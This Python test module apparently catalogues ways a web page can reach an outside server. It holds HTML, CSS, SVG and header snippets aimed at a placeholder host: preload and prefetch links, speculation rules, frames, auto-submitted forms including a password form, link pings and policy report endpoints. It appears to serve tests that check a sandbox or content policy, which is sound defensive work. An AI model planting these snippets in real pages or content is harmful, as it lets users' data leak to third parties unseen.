"""The ways out that a page's elements, links, frames, forms and headers take."""

import json

from tests.attacks.channels import Channel, Ear, Place, fetched, in_a_window, script


def clicked(element: str) -> str:
    """An element with the id c, and a click on it."""
    return element + script("document.getElementById('c').click()")


def sent(form: str, fields: str = "<input name=p value=x>") -> str:
    """A form with this tag, sent off."""
    return f"<form id=f {form}>{fields}</form>" + script("document.getElementById('f').submit()")


def framed_blob(kind: str, text: str) -> str:
    """A frame with a document that the page makes itself."""
    blob = f"new Blob([{json.dumps(text)}],{{type:'{kind}'}})"
    return script(f"const f=document.createElement('iframe');f.src=URL.createObjectURL({blob});document.body.append(f)")


def speculating(kind: str) -> str:
    """Rules by which the browser may prepare a page that might be opened next."""
    return f'<script type=speculationrules>{{"{kind}":[{{"source":"list","urls":["AWAY"]}}]}}</script>'


FORBIDDEN_IMAGE = "<img src=/x>"
POLICY = "Content-Security-Policy"
LOG = (
    ("Report-To", '{"group":"e","max_age":9,"endpoints":[{"url":"AWAY"}]}'),
    ("NEL", '{"report_to":"e","max_age":9,"success_fraction":1.0}'),
)

BY_LINKS = (
    Channel("prefetch", "<link rel=prefetch href=AWAY>"),
    Channel("preload", "<link rel=preload as=script href=AWAY>"),
    Channel("preload-fetch", "<link rel=preload as=fetch crossorigin href=AWAY>"),
    Channel("preload-by-header", "", Place.FRAME, headers=(("Link", "<AWAY>; rel=preload; as=script"),)),
    Channel("preconnect", "<link rel=preconnect href=http://EAR>", ear=Ear.TCP),
    Channel("preconnect-by-header", "", Place.FRAME, Ear.TCP, (("Link", "<http://EAR>; rel=preconnect"),)),
    Channel("modulepreload", "<link rel=modulepreload href=AWAY>"),
    Channel("style-sheet", "<link rel=stylesheet href=AWAY>"),
    Channel("icon", "<link rel=icon href=AWAY>", Place.ALONE),
    Channel("manifest", "<link rel=manifest href=AWAY>", Place.ALONE),
    Channel("dictionary", "<link rel=compression-dictionary href=AWAY crossorigin>"),
    Channel("speculation-prefetch", speculating("prefetch"), Place.ALONE),
    Channel("speculation-prerender", speculating("prerender"), Place.ALONE),
    Channel("speculation-by-header", "", Place.ALONE, headers=(("Speculation-Rules", '"AWAY"'),)),
    Channel("link", clicked("<a id=c href=AWAY>x</a>"), Place.FRAME),
    Channel("link-ping", clicked("<a id=c ping=AWAY href='#x'>x</a>"), Place.FRAME),
    Channel("link-to-download", clicked("<a id=c download href=AWAY>x</a>"), Place.FRAME),
    Channel("link-to-window", clicked("<a id=c target=_blank href=AWAY>x</a>") + in_a_window(""), Place.FRAME),
    Channel("attribution", "<img attributionsrc=AWAY>"),
)

BY_ELEMENTS = (
    Channel("image", "<img src=AWAY>"),
    Channel("image-redirected", "<img src=REDIRECTED>"),
    Channel("image-set", "<img srcset='AWAY 1x'>"),
    Channel("picture-source", "<picture><source srcset=AWAY><img></picture>"),
    Channel("input-image", "<input type=image src=AWAY>"),
    Channel("body-background", "<body background=AWAY>", Place.FRAME),
    Channel("table-background", "<table background=AWAY><td>x</table>"),
    Channel("css-background", "<p style='background:url(AWAY)'>x"),
    Channel("css-content", "<p style='content:url(AWAY)'>x"),
    Channel("css-list-mark", "<ul><li style='list-style:url(AWAY)'>x</ul>"),
    Channel("css-border", "<p style='border:1px solid;border-image:url(AWAY) 1'>x"),
    Channel("css-mask", "<p style='mask-image:url(AWAY)'>x"),
    Channel("css-shape", "<p style='float:left;shape-outside:url(AWAY)'>x"),
    Channel("css-cursor", "<p style='cursor:url(AWAY),auto'>x"),
    Channel("css-import", "<style>@import 'AWAY';</style>"),
    Channel("css-font", "<style>@font-face{font-family:e;src:url(AWAY)}</style><p style='font-family:e'>x"),
    Channel("css-filter", "<p style='filter:url(AWAY#f)'>x"),
    Channel("svg-image", "<svg><image href=AWAY /></svg>"),
    Channel("svg-use", "<svg><use href=AWAY#x /></svg>"),
    Channel("svg-use-redirected", "<svg><use href=REDIRECTED#x /></svg>"),
    Channel(
        "svg-filter-image",
        "<svg><filter id=i><feImage href=AWAY /></filter><rect filter=url(#i) width=9 height=9 /></svg>",
    ),
    Channel("svg-script", "<svg><script href=AWAY></script></svg>"),
    Channel("video", "<video src=AWAY></video>"),
    Channel("video-poster", "<video poster=AWAY></video>"),
    Channel("video-source", "<video><source src=AWAY></video>"),
    Channel("video-track", "<video src=/x crossorigin><track default kind=subtitles src=AWAY></video>"),
    Channel("audio", "<audio src=AWAY></audio>"),
    Channel("script", "<script src=AWAY></script>"),
    Channel("module-script", "<script type=module>import 'AWAY'</script>"),
    Channel("object", "<object data=AWAY></object>"),
    Channel("embed", "<embed src=AWAY>"),
    Channel("xml-style-sheet", framed_blob("text/xml", "<?xml-stylesheet type='text/css' href='AWAY'?><a/>")),
)

BY_FRAMES = (
    Channel("frame", "<iframe src=AWAY></iframe>"),
    Channel("frame-redirected", "<iframe src=REDIRECTED></iframe>"),
    Channel("frame-of-text", "<iframe srcdoc=\"<iframe srcdoc='<img src=AWAY>'></iframe>\"></iframe>"),
    Channel("frame-of-data", "<iframe src='data:text/html,<img src=AWAY>'></iframe>"),
    Channel("frame-of-blob", framed_blob("text/html", "<img src=AWAY>")),
    Channel("frame-of-script", "<iframe src=\"javascript:'<img src=AWAY>'\"></iframe>"),
    Channel("frame-in-sandbox", f'<iframe sandbox=allow-scripts srcdoc="<script>{fetched()}</script>"></iframe>'),
    Channel("frame-without-credentials", "<iframe credentialless src=AWAY></iframe>"),
    Channel("frame-refreshed", "<meta http-equiv=refresh content='0;url=AWAY'>", Place.FRAME),
    Channel("frame-led-away", script("location='AWAY'"), Place.FRAME),
)

BY_FORMS = (
    Channel("form", sent("method=post action=AWAY"), Place.ALONE),
    Channel("form-in-frame", sent("method=post action=AWAY"), Place.FRAME),
    Channel("form-in-window", sent("target=_blank action=AWAY") + in_a_window(""), Place.FRAME),
    Channel("form-by-script-address", sent(f'action="javascript:{fetched()}"'), Place.FRAME),
    Channel(
        "form-action-of-button", clicked("<form><button id=c formmethod=post formaction=AWAY></form>"), Place.FRAME
    ),
    Channel("sign-in-sent-on", sent("method=post action=RESENT", "<input type=password name=p value=x>"), Place.ALONE),
)

BY_REPORTS = (
    Channel("policy-report", FORBIDDEN_IMAGE, Place.FRAME, headers=((POLICY, "img-src 'none'; report-uri AWAY"),)),
    Channel(
        "policy-report-only",
        FORBIDDEN_IMAGE,
        Place.FRAME,
        headers=((f"{POLICY}-Report-Only", "img-src 'none'; report-uri AWAY"),),
    ),
    Channel(
        "policy-report-to",
        FORBIDDEN_IMAGE,
        Place.FRAME,
        headers=(("Reporting-Endpoints", 'e="AWAY"'), (POLICY, "img-src 'none'; report-to e")),
    ),
    Channel("network-error-log", FORBIDDEN_IMAGE, Place.FRAME, headers=LOG),
)
